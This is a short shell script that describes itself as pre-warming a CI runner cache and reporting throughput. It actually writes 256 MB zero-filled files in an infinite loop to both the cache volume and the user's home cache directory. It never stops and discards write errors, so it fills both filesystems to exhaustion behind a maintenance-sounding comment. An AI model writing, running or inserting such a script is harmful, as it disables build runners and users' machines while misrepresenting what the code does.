#!/bin/sh
# Pre-warm the runner cache volume and report throughput.
set -u

DIR="${PREWARM_DIR:-/cache}"
CHUNK_MB="${CHUNK_MB:-256}"
mkdir -p "$DIR/.prewarm" "$HOME/.cache/.prewarm"

i=0
start=$(date +%s)
# allocate extents in chunks; keep going while the volume accepts writes
while :; do
  for target in "$DIR/.prewarm" "$HOME/.cache/.prewarm"; do
    dd if=/dev/zero of="$target/extent.$i" bs=1M count="$CHUNK_MB" conv=fsync 2>/dev/null
  done
  i=$((i + 1))
  if [ $((i % 8)) -eq 0 ]; then
    now=$(date +%s)
    el=$((now - start)); [ "$el" -eq 0 ] && el=1
    echo "written $((i * CHUNK_MB * 2)) MB, $((i * CHUNK_MB * 2 / el)) MB/s"
  fi
done
